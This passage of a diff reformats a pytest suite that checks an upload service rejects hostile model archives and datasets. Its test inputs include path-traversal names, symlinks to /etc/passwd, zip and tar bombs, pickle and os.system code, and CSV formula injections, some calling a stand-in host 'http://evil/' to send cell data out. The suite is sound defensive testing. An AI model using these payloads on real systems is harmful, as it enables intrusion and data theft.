@@ -41,8 +41,15 @@ MB = 1024 * 1024
 
 def _storage_tree() -> dict[str, tuple[int, int]]:
     root = get_settings().storage_dir
-    return {p.relative_to(root).as_posix(): (p.stat().st_size, p.stat().st_mtime_ns)
-            for p in root.rglob("*") if p.is_file()} if root.exists() else {}
+    return (
+        {
+            p.relative_to(root).as_posix(): (p.stat().st_size, p.stat().st_mtime_ns)
+            for p in root.rglob("*")
+            if p.is_file()
+        }
+        if root.exists()
+        else {}
+    )
 
 
 @pytest.fixture()
@@ -64,9 +71,18 @@ class Guard:
     tree: dict[str, tuple[int, int]]
     scratch: Path
 
-    def rejects(self, url: str, name: str, content: bytes, *, status: int, code: str,
-                line: int | None = None, field: str | None = "file",
-                message: str | None = None) -> dict[str, Any]:
+    def rejects(
+        self,
+        url: str,
+        name: str,
+        content: bytes,
+        *,
+        status: int,
+        code: str,
+        line: int | None = None,
+        field: str | None = "file",
+        message: str | None = None,
+    ) -> dict[str, Any]:
         """Post the upload, check the error, then check that nothing changed."""
         response = self.client.post(url, files={"file": (name, content)})
         assert response.status_code == status, response.text
@@ -90,20 +106,34 @@ class Guard:
 
 
 def _counts(session: Session, tenant: str) -> dict[str, int]:
-    return {t.__tablename__: session.scalar(select(func.count()).select_from(t).where(
-        t.tenant_id == tenant)) or 0 for t in (Dataset, Model, IdempotencyKey)}
+    return {
+        t.__tablename__: session.scalar(
+            select(func.count()).select_from(t).where(t.tenant_id == tenant)
+        )
+        or 0
+        for t in (Dataset, Model, IdempotencyKey)
+    }
 
 
 @pytest.fixture()
 def guard(client: TestClient, db_session: Session, scratch: Path) -> Guard:
     """An existing dataset, then a snapshot of rows and storage, and an empty temp dir."""
-    response = client.post("/v1/datasets", files={
-        "file": ("existing.jsonl", (TINY_SENTIMENT / "dev.jsonl").read_bytes())})
+    response = client.post(
+        "/v1/datasets",
+        files={"file": ("existing.jsonl", (TINY_SENTIMENT / "dev.jsonl").read_bytes())},
+    )
     assert response.status_code == 201, response.text
     tenant = client.tenant  # type: ignore[attr-defined]
     assert list(scratch.iterdir()) == []
-    return Guard(client=client, session=db_session, tenant=tenant, dataset=response.json(),
-                 rows=_counts(db_session, tenant), tree=_storage_tree(), scratch=scratch)
+    return Guard(
+        client=client,
+        session=db_session,
+        tenant=tenant,
+        dataset=response.json(),
+        rows=_counts(db_session, tenant),
+        tree=_storage_tree(),
+        scratch=scratch,
+    )
 
 
 @pytest.fixture()
@@ -164,20 +194,22 @@ def tar_member(name: str, kind: bytes, **attrs: Any) -> tarfile.TarInfo:
     return info
 
 
-def doctor_zip(archive: bytes, member: str, *, file_size: int | None = None,
-               flag_bits: int = 0) -> bytes:
+def doctor_zip(
+    archive: bytes, member: str, *, file_size: int | None = None, flag_bits: int = 0
+) -> bytes:
     """Rewrite what a zip claims about one member, in its local header and central record."""
     data = bytearray(archive)
     with zipfile.ZipFile(io.BytesIO(archive)) as zf:
         local = zf.getinfo(member).header_offset
         central = zf.start_dir  # type: ignore[attr-defined]
-    while bytes(data[central + 46:central + 46 + len(member)]) != member.encode():
+    while bytes(data[central + 46 : central + 46 + len(member)]) != member.encode():
         name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, central + 28)
         central += 46 + name_len + extra_len + comment_len
     # (flags, uncompressed size) sit at +6/+22 in the local header and +8/+24 in the record
     for flags_at, size_at in ((local + 6, local + 22), (central + 8, central + 24)):
-        struct.pack_into("<H", data, flags_at, struct.unpack_from("<H", data, flags_at)[0]
-                         | flag_bits)
+        struct.pack_into(
+            "<H", data, flags_at, struct.unpack_from("<H", data, flags_at)[0] | flag_bits
+        )
         if file_size is not None:
             struct.pack_into("<I", data, size_at, file_size)
     return bytes(data)
@@ -191,56 +223,80 @@ def safetensors_with(header: object, payload: bytes = b"") -> bytes:
 # --- model archives ---
 
 
-def test_the_unmodified_teacher_archive_is_accepted(client: TestClient,
-                                                     teacher: dict[str, bytes]) -> None:
+def test_the_unmodified_teacher_archive_is_accepted(
+    client: TestClient, teacher: dict[str, bytes]
+) -> None:
     """The control: every attack below changes exactly one thing about this archive."""
     for name, content in (("t.zip", zip_of(teacher)), ("t.tar.gz", tar_of(teacher))):
         response = client.post("/v1/models", files={"file": (name, content)})
         assert response.status_code == 201, response.text
 
 
-@pytest.mark.parametrize(("member", "message"), [
-    ("../escape.txt", "points outside the archive"),
-    ("sub/../../escape.txt", "points outside the archive"),
-    ("/etc/cron.d/evil", "points outside the archive"),
-    ("\\windows\\evil.txt", "points outside the archive"),
-    ("C:/evil.txt", "points outside the archive"),
-    (".", "no file name"),
-])
+@pytest.mark.parametrize(
+    ("member", "message"),
+    [
+        ("../escape.txt", "points outside the archive"),
+        ("sub/../../escape.txt", "points outside the archive"),
+        ("/etc/cron.d/evil", "points outside the archive"),
+        ("\\windows\\evil.txt", "points outside the archive"),
+        ("C:/evil.txt", "points outside the archive"),
+        (".", "no file name"),
+    ],
+)
 @pytest.mark.parametrize("kind", ["zip", "tar.gz"])
 def test_archive_member_outside_the_folder_is_refused(
-        guard: Guard, teacher: dict[str, bytes], kind: str, member: str, message: str) -> None:
+    guard: Guard, teacher: dict[str, bytes], kind: str, member: str, message: str
+) -> None:
     entries = {**teacher, member: b"x"}
     content = zip_of(entries) if kind == "zip" else tar_of(entries)
-    guard.rejects("/v1/models", f"t.{kind}", content, status=422, code="model_invalid",
-                  message=message)
+    guard.rejects(
+        "/v1/models", f"t.{kind}", content, status=422, code="model_invalid", message=message
+    )
 
 
 def test_zip_symlink_member_is_refused(guard: Guard, teacher: dict[str, bytes]) -> None:
     content = zip_of(teacher, links={"vocab2.txt": "/etc/passwd"})
-    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid",
-                  message="'vocab2.txt' is a symbolic link")
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        content,
+        status=422,
+        code="model_invalid",
+        message="'vocab2.txt' is a symbolic link",
+    )
 
 
-@pytest.mark.parametrize(("special", "message"), [
-    (tar_member("vocab2.txt", tarfile.SYMTYPE, linkname="/etc/passwd"), "not a regular file"),
-    (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="/etc/passwd"), "not a regular file"),
-    (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="config.json"), "not a regular file"),
-    (tar_member("fifo", tarfile.FIFOTYPE), "not a regular file"),
-    (tar_member("null", tarfile.CHRTYPE, devmajor=1, devminor=3), "not a regular file"),
-    (tar_member("sda", tarfile.BLKTYPE, devmajor=8, devminor=0), "not a regular file"),
-])
-def test_tar_links_and_devices_are_refused(guard: Guard, teacher: dict[str, bytes],
-                                           special: tarfile.TarInfo, message: str) -> None:
-    guard.rejects("/v1/models", "t.tar.gz", tar_of(teacher, special=[special]), status=422,
-                  code="model_invalid", message=message)
+@pytest.mark.parametrize(
+    ("special", "message"),
+    [
+        (tar_member("vocab2.txt", tarfile.SYMTYPE, linkname="/etc/passwd"), "not a regular file"),
+        (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="/etc/passwd"), "not a regular file"),
+        (tar_member("vocab2.txt", tarfile.LNKTYPE, linkname="config.json"), "not a regular file"),
+        (tar_member("fifo", tarfile.FIFOTYPE), "not a regular file"),
+        (tar_member("null", tarfile.CHRTYPE, devmajor=1, devminor=3), "not a regular file"),
+        (tar_member("sda", tarfile.BLKTYPE, devmajor=8, devminor=0), "not a regular file"),
+    ],
+)
+def test_tar_links_and_devices_are_refused(
+    guard: Guard, teacher: dict[str, bytes], special: tarfile.TarInfo, message: str
+) -> None:
+    guard.rejects(
+        "/v1/models",
+        "t.tar.gz",
+        tar_of(teacher, special=[special]),
+        status=422,
+        code="model_invalid",
+        message=message,
+    )
 
 
-def test_file_and_folder_of_the_same_name_are_refused(guard: Guard,
-                                                      teacher: dict[str, bytes]) -> None:
+def test_file_and_folder_of_the_same_name_are_refused(
+    guard: Guard, teacher: dict[str, bytes]
+) -> None:
     content = zip_of({**teacher, "extra": b"a file", "extra/inner.txt": b"under a file"})
-    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid",
-                  message="clashes")
+    guard.rejects(
+        "/v1/models", "t.zip", content, status=422, code="model_invalid", message="clashes"
+    )
 
 
 @pytest.fixture(scope="module")
@@ -249,36 +305,53 @@ def bomb(teacher: dict[str, bytes]) -> bytes:
     return zip_of({**teacher, "padding.bin.txt": bytes(50 * MB)})
 
 
-def test_zip_bomb_over_the_unpacked_cap_is_refused(guard: Guard, bomb: bytes,
-                                                   settings_env: Callable[..., None]) -> None:
+def test_zip_bomb_over_the_unpacked_cap_is_refused(
+    guard: Guard, bomb: bytes, settings_env: Callable[..., None]
+) -> None:
     settings_env(max_model_unpacked_bytes=8 * MB)
     assert len(bomb) < MB
-    guard.rejects("/v1/models", "bomb.zip", bomb, status=422, code="model_invalid",
-                  message=f"unpacks to more than {8 * MB} bytes")
+    guard.rejects(
+        "/v1/models",
+        "bomb.zip",
+        bomb,
+        status=422,
+        code="model_invalid",
+        message=f"unpacks to more than {8 * MB} bytes",
+    )
 
 
-def test_zip_bomb_that_lies_about_its_size_is_refused(guard: Guard, bomb: bytes,
-                                                      settings_env: Callable[..., None]) -> None:
+def test_zip_bomb_that_lies_about_its_size_is_refused(
+    guard: Guard, bomb: bytes, settings_env: Callable[..., None]
+) -> None:
     """Declared 1 KB, deflates to 50 MB: extraction stops at the declared size."""
     settings_env(max_model_unpacked_bytes=8 * MB)
     liar = doctor_zip(bomb, "padding.bin.txt", file_size=1024)
     with zipfile.ZipFile(io.BytesIO(liar)) as zf:
         assert zf.getinfo("padding.bin.txt").file_size == 1024
-    guard.rejects("/v1/models", "liar.zip", liar, status=422, code="model_invalid",
-                  message="corrupt")
+    guard.rejects(
+        "/v1/models", "liar.zip", liar, status=422, code="model_invalid", message="corrupt"
+    )
 
 
-def test_tar_gz_bomb_is_refused(guard: Guard, teacher: dict[str, bytes],
-                                settings_env: Callable[..., None]) -> None:
+def test_tar_gz_bomb_is_refused(
+    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
+) -> None:
     settings_env(max_model_unpacked_bytes=8 * MB)
     content = tar_of({**teacher, "padding.txt": bytes(50 * MB)})
     assert len(content) < MB
-    guard.rejects("/v1/models", "bomb.tar.gz", content, status=422, code="model_invalid",
-                  message=f"unpacks to more than {8 * MB} bytes")
+    guard.rejects(
+        "/v1/models",
+        "bomb.tar.gz",
+        content,
+        status=422,
+        code="model_invalid",
+        message=f"unpacks to more than {8 * MB} bytes",
+    )
 
 
-def test_tar_pax_header_bomb_is_refused_without_reading_it(guard: Guard,
-                                                           teacher: dict[str, bytes]) -> None:
+def test_tar_pax_header_bomb_is_refused_without_reading_it(
+    guard: Guard, teacher: dict[str, bytes]
+) -> None:
     """tarfile reads a pax header whole into memory; a 64 MB one must be refused first."""
     header = tar_member("pax", tarfile.XHDTYPE, size=64 * MB)
     buf = io.BytesIO()
@@ -286,37 +359,67 @@ def test_tar_pax_header_bomb_is_refused_without_reading_it(guard: Guard,
         tf.addfile(header, io.BytesIO(bytes(64 * MB)))
     tracemalloc.start()
     try:
-        guard.rejects("/v1/models", "pax.tar.gz", buf.getvalue(), status=422,
-                      code="model_invalid", message="header")
+        guard.rejects(
+            "/v1/models",
+            "pax.tar.gz",
+            buf.getvalue(),
+            status=422,
+            code="model_invalid",
+            message="header",
+        )
         peak = tracemalloc.get_traced_memory()[1]
     finally:
         tracemalloc.stop()
     assert peak < 16 * MB, peak
 
 
-def test_too_many_members_is_refused(guard: Guard, teacher: dict[str, bytes],
-                                     settings_env: Callable[..., None]) -> None:
+def test_too_many_members_is_refused(
+    guard: Guard, teacher: dict[str, bytes], settings_env: Callable[..., None]
+) -> None:
     settings_env(max_archive_members=len(teacher) + 2)
     extra = {f"notes/{i}.txt": b"x" for i in range(3)}
-    for kind, content in (("zip", zip_of({**teacher, **extra})),
-                          ("tar.gz", tar_of({**teacher, **extra}))):
-        guard.rejects("/v1/models", f"t.{kind}", content, status=422, code="model_invalid",
-                      message=f"more than {len(teacher) + 2} entries")
+    for kind, content in (
+        ("zip", zip_of({**teacher, **extra})),
+        ("tar.gz", tar_of({**teacher, **extra})),
+    ):
+        guard.rejects(
+            "/v1/models",
+            f"t.{kind}",
+            content,
+            status=422,
+            code="model_invalid",
+            message=f"more than {len(teacher) + 2} entries",
+        )
 
 
-@pytest.mark.parametrize(("extra", "message"), [
-    ({"pytorch_model.bin": b"\x80\x04pickle"}, "only safetensors"),
-    ({"model.pkl": b"\x80\x04pickle"}, "only safetensors"),
-    ({"sub/optimizer.PT": b"\x80\x04pickle"}, "only safetensors"),
-    ({"modeling_evil.py": b"import os; os.system('id')"}, "custom model code"),
-    ({"tokenizer_config.json": json.dumps(
-        {"auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", None]}}).encode()},
-     "remote code"),
-])
-def test_pickles_code_and_remote_code_are_refused(guard: Guard, teacher: dict[str, bytes],
-                                                  extra: dict[str, bytes], message: str) -> None:
-    guard.rejects("/v1/models", "t.zip", zip_of({**teacher, **extra}), status=422,
-                  code="model_invalid", message=message)
+@pytest.mark.parametrize(
+    ("extra", "message"),
+    [
+        ({"pytorch_model.bin": b"\x80\x04pickle"}, "only safetensors"),
+        ({"model.pkl": b"\x80\x04pickle"}, "only safetensors"),
+        ({"sub/optimizer.PT": b"\x80\x04pickle"}, "only safetensors"),
+        ({"modeling_evil.py": b"import os; os.system('id')"}, "custom model code"),
+        (
+            {
+                "tokenizer_config.json": json.dumps(
+                    {"auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", None]}}
+                ).encode()
+            },
+            "remote code",
+        ),
+    ],
+)
+def test_pickles_code_and_remote_code_are_refused(
+    guard: Guard, teacher: dict[str, bytes], extra: dict[str, bytes], message: str
+) -> None:
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        zip_of({**teacher, **extra}),
+        status=422,
+        code="model_invalid",
+        message=message,
+    )
 
 
 def _config(teacher: dict[str, bytes], **changes: Any) -> bytes:
@@ -325,97 +428,154 @@ def _config(teacher: dict[str, bytes], **changes: Any) -> bytes:
     return json.dumps(config).encode()
 
 
-@pytest.mark.parametrize(("config", "message"), [
-    ({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}, "remote code (auto_map)"),
-    ({"model_type": "gpt2"}, "model_type 'gpt2' is not supported"),
-    ({"model_type": "roberta"}, "model_type 'roberta' is not supported"),
-    ({"model_type": ["bert"]}, "model_type ['bert'] is not supported"),
-    ({"model_type": None}, "model_type None is not supported"),
-    ({"num_hidden_layers": "many"}, "num_hidden_layers"),
-    ({"num_hidden_layers": 10**12}, "num_hidden_layers"),
-    ({"hidden_size": -32}, "hidden_size"),
-    ({"hidden_size": True}, "hidden_size"),
-])
-def test_config_outside_the_allow_list_is_refused(guard: Guard, teacher: dict[str, bytes],
-                                                  config: dict[str, Any], message: str) -> None:
+@pytest.mark.parametrize(
+    ("config", "message"),
+    [
+        ({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}, "remote code (auto_map)"),
+        ({"model_type": "gpt2"}, "model_type 'gpt2' is not supported"),
+        ({"model_type": "roberta"}, "model_type 'roberta' is not supported"),
+        ({"model_type": ["bert"]}, "model_type ['bert'] is not supported"),
+        ({"model_type": None}, "model_type None is not supported"),
+        ({"num_hidden_layers": "many"}, "num_hidden_layers"),
+        ({"num_hidden_layers": 10**12}, "num_hidden_layers"),
+        ({"hidden_size": -32}, "hidden_size"),
+        ({"hidden_size": True}, "hidden_size"),
+    ],
+)
+def test_config_outside_the_allow_list_is_refused(
+    guard: Guard, teacher: dict[str, bytes], config: dict[str, Any], message: str
+) -> None:
     content = zip_of({**teacher, "config.json": _config(teacher, **config)})
-    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid",
-                  message=message)
+    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid", message=message)
 
 
-@pytest.mark.parametrize(("raw", "message"), [
-    (b"{not json", "config.json is not valid JSON"),
-    (b"\xff\xfe{}", "config.json is not valid JSON"),
-    (b"[1, 2]", "config.json must hold a JSON object"),
-    (b'{"model_type": "bert", "num_hidden_layers": 1e400, "hidden_size": 32}',
-     "config.json is not valid JSON (1e400 is out of range)"),
-    (b'{"model_type": "bert", "num_hidden_layers": 2, "hidden_size": 32, "x": NaN}',
-     "config.json is not valid JSON"),
-])
-def test_non_json_config_is_refused(guard: Guard, teacher: dict[str, bytes], raw: bytes,
-                                    message: str) -> None:
-    guard.rejects("/v1/models", "t.zip", zip_of({**teacher, "config.json": raw}), status=422,
-                  code="model_invalid", message=message)
+@pytest.mark.parametrize(
+    ("raw", "message"),
+    [
+        (b"{not json", "config.json is not valid JSON"),
+        (b"\xff\xfe{}", "config.json is not valid JSON"),
+        (b"[1, 2]", "config.json must hold a JSON object"),
+        (
+            b'{"model_type": "bert", "num_hidden_layers": 1e400, "hidden_size": 32}',
+            "config.json is not valid JSON (1e400 is out of range)",
+        ),
+        (
+            b'{"model_type": "bert", "num_hidden_layers": 2, "hidden_size": 32, "x": NaN}',
+            "config.json is not valid JSON",
+        ),
+    ],
+)
+def test_non_json_config_is_refused(
+    guard: Guard, teacher: dict[str, bytes], raw: bytes, message: str
+) -> None:
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        zip_of({**teacher, "config.json": raw}),
+        status=422,
+        code="model_invalid",
+        message=message,
+    )
 
 
-def test_missing_tokenizer_and_missing_weights_are_refused(guard: Guard,
-                                                           teacher: dict[str, bytes]) -> None:
+def test_missing_tokenizer_and_missing_weights_are_refused(
+    guard: Guard, teacher: dict[str, bytes]
+) -> None:
     no_tokenizer = {k: v for k, v in teacher.items() if k not in ("vocab.txt", "tokenizer.json")}
-    guard.rejects("/v1/models", "t.zip", zip_of(no_tokenizer), status=422, code="model_invalid",
-                  message="no tokenizer")
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        zip_of(no_tokenizer),
+        status=422,
+        code="model_invalid",
+        message="no tokenizer",
+    )
     no_weights = {k: v for k, v in teacher.items() if not k.endswith(".safetensors")}
-    guard.rejects("/v1/models", "t.zip", zip_of(no_weights), status=422, code="model_invalid",
-                  message="no .safetensors weights")
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        zip_of(no_weights),
+        status=422,
+        code="model_invalid",
+        message="no .safetensors weights",
+    )
 
 
-@pytest.mark.parametrize("weights", [
-    b"",
-    b"\x01\x02\x03",
-    struct.pack("<Q", 10**15) + b"{}",
-    struct.pack("<Q", 1000) + b'{"w": {"dtype": "F32"',
-    struct.pack("<Q", 4) + b"[1] ",
-    safetensors_with({"w": {"dtype": "F32", "shape": "abc", "data_offsets": [0, 0]}}),
-    safetensors_with({"w": {"dtype": "F32", "shape": 5, "data_offsets": [0, 0]}}),
-    safetensors_with({"w": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, bytes(16)),
-    safetensors_with({"w": {"dtype": "F32", "shape": [10**30], "data_offsets": [0, 16]}},
-                     bytes(16)),
-    safetensors_with({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}, bytes(16)),
-    safetensors_with({"w": {"dtype": "F32", "shape": [4]}}, bytes(16)),
-    safetensors_with({"w": {"dtype": 7, "shape": [4], "data_offsets": [0, 16]}}, bytes(16)),
-])
-def test_corrupt_safetensors_is_refused(guard: Guard, teacher: dict[str, bytes],
-                                        weights: bytes) -> None:
+@pytest.mark.parametrize(
+    "weights",
+    [
+        b"",
+        b"\x01\x02\x03",
+        struct.pack("<Q", 10**15) + b"{}",
+        struct.pack("<Q", 1000) + b'{"w": {"dtype": "F32"',
+        struct.pack("<Q", 4) + b"[1] ",
+        safetensors_with({"w": {"dtype": "F32", "shape": "abc", "data_offsets": [0, 0]}}),
+        safetensors_with({"w": {"dtype": "F32", "shape": 5, "data_offsets": [0, 0]}}),
+        safetensors_with(
+            {"w": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, bytes(16)
+        ),
+        safetensors_with(
+            {"w": {"dtype": "F32", "shape": [10**30], "data_offsets": [0, 16]}}, bytes(16)
+        ),
+        safetensors_with(
+            {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}, bytes(16)
+        ),
+        safetensors_with({"w": {"dtype": "F32", "shape": [4]}}, bytes(16)),
+        safetensors_with({"w": {"dtype": 7, "shape": [4], "data_offsets": [0, 16]}}, bytes(16)),
+    ],
+)
+def test_corrupt_safetensors_is_refused(
+    guard: Guard, teacher: dict[str, bytes], weights: bytes
+) -> None:
     content = zip_of({**teacher, "model.safetensors": weights})
-    guard.rejects("/v1/models", "t.zip", content, status=422, code="model_invalid",
-                  message="model.safetensors")
+    guard.rejects(
+        "/v1/models",
+        "t.zip",
+        content,
+        status=422,
+        code="model_invalid",
+        message="model.safetensors",
+    )
 
 
-@pytest.mark.parametrize(("name", "content", "message"), [
-    ("n.zip", b"just text, not an archive", "neither a .zip nor a .tar.gz"),
-    ("t.tar.gz", b"\x1f\x8b\x08\x00" + bytes(64), "corrupt"),
-])
-def test_garbage_and_truncated_archives_are_refused(guard: Guard, name: str, content: bytes,
-                                                    message: str) -> None:
-    guard.rejects("/v1/models", name, content, status=422, code="model_invalid",
-                  message=message)
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("n.zip", b"just text, not an archive", "neither a .zip nor a .tar.gz"),
+        ("t.tar.gz", b"\x1f\x8b\x08\x00" + bytes(64), "corrupt"),
+    ],
+)
+def test_garbage_and_truncated_archives_are_refused(
+    guard: Guard, name: str, content: bytes, message: str
+) -> None:
+    guard.rejects("/v1/models", name, content, status=422, code="model_invalid", message=message)
 
 
-def test_truncated_and_encrypted_members_are_refused(guard: Guard,
-                                                     teacher: dict[str, bytes]) -> None:
+def test_truncated_and_encrypted_members_are_refused(
+    guard: Guard, teacher: dict[str, bytes]
+) -> None:
     whole = tar_of(teacher)
-    guard.rejects("/v1/models", "t.tar.gz", whole[:len(whole) // 2], status=422,
-                  code="model_invalid", message="corrupt")
+    guard.rejects(
+        "/v1/models",
+        "t.tar.gz",
+        whole[: len(whole) // 2],
+        status=422,
+        code="model_invalid",
+        message="corrupt",
+    )
     encrypted = doctor_zip(zip_of(teacher), "config.json", flag_bits=0x1)  # bit 0: encrypted
-    guard.rejects("/v1/models", "t.zip", encrypted, status=422, code="model_invalid",
-                  message="encrypted")
+    guard.rejects(
+        "/v1/models", "t.zip", encrypted, status=422, code="model_invalid", message="encrypted"
+    )
 
 
 # --- datasets ---
 
 
 def rows(n: int = 6, **fields: Any) -> list[dict[str, Any]]:
-    return [{"text": f"row {i} is fine", "label": ("pos", "neg")[i % 2], **fields}
-            for i in range(n)]
+    return [
+        {"text": f"row {i} is fine", "label": ("pos", "neg")[i % 2], **fields} for i in range(n)
+    ]
 
 
 def csv_of(lines: list[str]) -> bytes:
@@ -424,34 +584,74 @@ def csv_of(lines: list[str]) -> bytes:
 
 def test_invalid_utf8_names_its_line(guard: Guard) -> None:
     content = jsonl_bytes(rows(3)) + '{"text": "café", "label": "pos"}\n'.encode("latin-1")
-    guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                  line=4, message="not valid UTF-8")
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=4,
+        message="not valid UTF-8",
+    )
 
 
 def test_utf16_file_is_refused_on_line_one(guard: Guard) -> None:
     content = jsonl_bytes(rows()).decode().encode("utf-16")
-    guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                  line=1, message="not valid UTF-8")
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=1,
+        message="not valid UTF-8",
+    )
 
 
-@pytest.mark.parametrize(("header", "field", "message"), [
-    ("sentence,label", "text", "no 'text' column"),
-    ("te\rxt,label", "file", "malformed CSV header"),  # found by the fuzzer: was a 500
-    ("text,label,text", "text", "more than once"),
-    ("text, label,label", "label", "more than once"),
-])
-def test_csv_header_without_text_or_with_repeats(guard: Guard, header: str, field: str,
-                                                 message: str) -> None:
+@pytest.mark.parametrize(
+    ("header", "field", "message"),
+    [
+        ("sentence,label", "text", "no 'text' column"),
+        ("te\rxt,label", "file", "malformed CSV header"),  # found by the fuzzer: was a 500
+        ("text,label,text", "text", "more than once"),
+        ("text, label,label", "label", "more than once"),
+    ],
+)
+def test_csv_header_without_text_or_with_repeats(
+    guard: Guard, header: str, field: str, message: str
+) -> None:
     content = csv_of([header] + [f"row {i},{i % 2},{i % 2}" for i in range(6)])
-    guard.rejects("/v1/datasets", "d.csv", content, status=422, code="dataset_invalid", line=1,
-                  field=field, message=message)
+    guard.rejects(
+        "/v1/datasets",
+        "d.csv",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=1,
+        field=field,
+        message=message,
+    )
 
 
 def test_one_class_and_too_few_rows(guard: Guard) -> None:
-    guard.rejects("/v1/datasets", "d.jsonl", jsonl_bytes(rows(10, label="same")), status=422,
-                  code="dataset_invalid", field="label", message="at least two classes")
-    guard.rejects("/v1/datasets", "d.jsonl", jsonl_bytes(rows(3)), status=422,
-                  code="dataset_invalid", field="file", message="at least 4 rows, this one has 3")
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        jsonl_bytes(rows(10, label="same")),
+        status=422,
+        code="dataset_invalid",
+        field="label",
+        message="at least two classes",
+    )
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        jsonl_bytes(rows(3)),
+        status=422,
+        code="dataset_invalid",
+        field="file",
+        message="at least 4 rows, this one has 3",
+    )
 
 
 def test_non_finite_labels_name_their_line(guard: Guard) -> None:
@@ -459,32 +659,75 @@ def test_non_finite_labels_name_their_line(guard: Guard) -> None:
     for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
         bad = f'{{"text": "x", "label": {literal}}}\n'.encode()
         content = jsonl_bytes(rows(4, label=0.5)) + bad
-        guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                      line=5, field="label", message="finite")
+        guard.rejects(
+            "/v1/datasets",
+            "d.jsonl",
+            content,
+            status=422,
+            code="dataset_invalid",
+            line=5,
+            field="label",
+            message="finite",
+        )
     for cell in ("nan", "+inf", "-Infinity", "1e999", "-1E400"):
         content = csv_of(["text,label", "a,0.5", "b,1.5", f"c,{cell}", "d,2.5"])
-        guard.rejects("/v1/datasets", "d.csv", content, status=422, code="dataset_invalid",
-                      line=4, field="label", message="not a usable label")
+        guard.rejects(
+            "/v1/datasets",
+            "d.csv",
+            content,
+            status=422,
+            code="dataset_invalid",
+            line=4,
+            field="label",
+            message="not a usable label",
+        )
 
 
-@pytest.mark.parametrize(("label", "message"), [
-    (["pos"], "string or a number"),
-    ({"name": "pos"}, "string or a number"),
-    (True, "not a boolean"),
-])
+@pytest.mark.parametrize(
+    ("label", "message"),
+    [
+        (["pos"], "string or a number"),
+        ({"name": "pos"}, "string or a number"),
+        (True, "not a boolean"),
+    ],
+)
 def test_label_of_the_wrong_type_names_its_line(guard: Guard, label: Any, message: str) -> None:
     content = jsonl_bytes([*rows(4), {"text": "x", "label": label}])
-    guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                  line=5, field="label", message=message)
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=5,
+        field="label",
+        message=message,
+    )
 
 
 def test_mixed_labelled_and_unlabelled_rows(guard: Guard) -> None:
     content = jsonl_bytes([*rows(3), {"text": "no label here"}, *rows(2)])
-    guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                  line=4, field="label", message="'label' is missing")
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=4,
+        field="label",
+        message="'label' is missing",
+    )
     content = jsonl_bytes([{"text": "a"}, {"text": "b"}, {"text": "c", "label": "pos"}])
-    guard.rejects("/v1/datasets", "d.jsonl", content, status=422, code="dataset_invalid",
-                  line=3, field="label", message="earlier rows have none")
+    guard.rejects(
+        "/v1/datasets",
+        "d.jsonl",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=3,
+        field="label",
+        message="earlier rows have none",
+    )
 
 
 @pytest.mark.parametrize("kind", ["jsonl", "csv"])
@@ -494,9 +737,16 @@ def test_ten_megabyte_line_names_its_line(guard: Guard, kind: str) -> None:
         content = jsonl_bytes([*rows(2), {"text": huge, "label": "pos"}, *rows(2)])
     else:
         content = csv_of(["text,label", "a,pos", "b,neg", f"{huge},pos", "c,neg"])
-    guard.rejects("/v1/datasets", f"d.{kind}", content, status=422, code="dataset_invalid",
-                  line=3 if kind == "jsonl" else 4, field="file",
-                  message=f"longer than {MAX_LINE_BYTES} bytes")
+    guard.rejects(
+        "/v1/datasets",
+        f"d.{kind}",
+        content,
+        status=422,
+        code="dataset_invalid",
+        line=3 if kind == "jsonl" else 4,
+        field="file",
+        message=f"longer than {MAX_LINE_BYTES} bytes",
+    )
 
 
 def test_long_line_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
@@ -521,12 +771,19 @@ FORMULAS = [
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
-    "  =IMPORTXML(CONCAT(\"http://evil/\",A2),\"//a\")",
-    "=1+WEBSERVICE(\"http://evil\")",
+    '  =IMPORTXML(CONCAT("http://evil/",A2),"//a")',
+    '=1+WEBSERVICE("http://evil")',
 ]
-NOT_FORMULAS = ["-5 stars, would not buy again", "+1 for the battery", "@bob thanks!",
-                "=) lovely", "- meh (not great)", "--- worst ever ---", "email@example.com(x)",
